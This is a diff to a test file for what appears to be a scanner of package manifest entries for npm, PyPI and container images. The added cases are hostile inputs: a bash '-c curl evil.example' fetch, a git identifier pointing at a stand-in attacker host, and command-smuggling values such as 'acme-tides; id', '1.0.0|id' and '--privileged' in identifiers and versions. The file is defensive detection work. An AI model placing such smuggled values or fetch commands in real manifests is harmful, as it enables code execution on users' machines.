@@ -93,6 +93,14 @@ describe('a package', () => {
     ['K708 high runtimeArguments/0/name', image(runtime(flag('-e', 'BASH_ENV=/data/run')))],
     ['K709 info environmentVariables/0', npm(variable('TIDES_API_KEY', { description: 'A key.' }))],
     ['K709 info environmentVariables/0', npm(variable('TIDES_API_KEY', { isSecret: false }))],
+    ['K703 high runtimeHint', pypi({ runtimeHint: 'bash', ...runtime(...words('-c', 'curl evil.example')) })],
+    ['K707 high identifier', npm({ identifier: 'git+https://evil.example/tides' })],
+    ['K715 high identifier', npm({ identifier: '--call=id' })],
+    ['K715 high identifier', pypi({ identifier: 'acme-tides; id' })],
+    ['K715 high identifier', image({ identifier: `--privileged acme/tides:1.0@${DIGEST}` })],
+    ['K715 high version', npm({ version: '1.0.0;id' })],
+    ['K715 high version', npm({ version: '1.0.0|id' })],
+    ['K715 high version', npm({ version: '--call=id' })],
   ])('is found: %s in %j', (finding, stated) => {
     expect(found(withoutUndefined(stated))).toEqual([finding]);
   });
@@ -123,6 +131,8 @@ describe('a package', () => {
     ['a marked secret', npm(variable('TIDES_API_KEY', { isSecret: true }))],
     ['a fixed value', npm(variable('TIDES_TOKEN', { value: 'none' }))],
     ['a key of an entry', npm(variable('SORT_KEY'))],
+    ['extras of Python', pypi({ identifier: 'acme-tides[http,all]' })],
+    ['a program with a file', npm({ runtimeHint: 'node', ...runtime(...words('tides.js')) })],
     ['an exact version', npm({ version: '2.0.0-beta.1' })],
     ['a package of another registry', npm({ registryType: 'cargo' })],
     ['an MCPB file with its hash', file()],
